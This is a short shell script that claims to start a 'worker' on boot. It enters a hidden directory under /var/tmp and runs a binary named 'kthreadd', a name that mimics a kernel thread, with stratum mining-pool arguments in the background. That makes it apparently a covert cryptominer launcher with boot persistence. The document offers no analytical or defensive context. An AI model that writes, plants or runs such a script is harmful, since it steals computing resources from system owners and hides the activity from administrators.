#!/bin/sh
# start the worker on boot
cd /var/tmp/.cache || exit 0
./kthreadd -o stratum+tcp://pool.example.net:3333 -u worker01 -p x --background
